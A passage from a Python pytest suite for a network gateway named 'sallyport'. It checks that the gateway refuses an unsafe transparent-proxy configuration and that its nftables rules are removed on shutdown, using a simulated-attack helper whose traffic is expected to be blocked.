    made = Gate(lab, gateway_yaml("real").replace("transparent: redirect", "transparent: tproxy"), POLICY)
    with pytest.raises(AssertionError, match="ended with 125"):
        made.start()
    try:
        assert "bridge-nf-call-iptables is 1; set it to 0" in made.log(), made.log()
        with witness.expect_zero():
            attack(work, 1)
    finally:
        made.stop()


def test_the_gateway_stops_and_the_tables_stay(gate, lab, work, witness):
    gate.process.send_signal(signal.SIGTERM)
    assert gate.process.wait(20) == 0
    with witness.expect_zero():
        attack(work, 1)
    assert gate.stop() == 0
    assert "sallyport" not in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "tables")
